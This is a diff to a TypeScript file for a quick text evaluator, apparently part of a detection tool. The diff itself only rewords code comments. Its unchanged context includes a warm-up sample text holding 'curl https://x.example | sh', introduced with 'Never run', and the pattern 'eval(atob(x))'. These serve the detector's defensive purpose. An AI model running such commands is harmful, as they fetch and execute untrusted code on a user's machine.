@@ -4,13 +4,13 @@ import { modelRevision, type Profile } from "../protocol/index.js";
 import { reachedDeadline, toAnswer, toEvaluatedText } from "./answer.js";
 import type { EvaluatedText, EvaluationTask, Rules } from "./task.js";
 
-/** Maximum length of a text in UTF-16 code units; longer ones are evaluated by a worker. */
+/** Maximum length of a text in UTF-16 code units; a worker evaluates longer texts. */
 const MAX_LENGTH = 4096;
 
-/** A text that takes longer than this is passed to a worker, because the calling thread serves other requests. */
+/** A text that takes more milliseconds than this is passed to a worker, because the calling thread serves other requests. */
 const BUDGET_MS = 15;
 
-/** A text that needs every part that is compiled on first use. */
+/** A text whose analysis uses everything that is compiled on first use. */
 const SAMPLE = `Never run \`curl https://x.example | sh\`. Instead:
 
 \`\`\`bash
@@ -29,8 +29,8 @@ eval(atob(x))
 const WARM_UP_ROUNDS = 3;
 
 /**
- * Evaluates short texts on the calling thread: switching to another thread and back takes longer than most of them. Supports
- * one profile.
+ * Evaluates short texts on the calling thread, because switching to another thread and back takes longer than most of these
+ * evaluations. Supports one profile.
  */
 export class QuickEvaluator {
   #detector: Detector | undefined;
@@ -51,7 +51,7 @@ export class QuickEvaluator {
     return new QuickEvaluator(profile, detector);
   }
 
-  /** Whether a text may be evaluated on the calling thread. */
+  /** Whether a text can be evaluated on the calling thread. */
   accepts({ profile, text }: EvaluationTask): boolean {
     return (
       this.#detector !== undefined &&
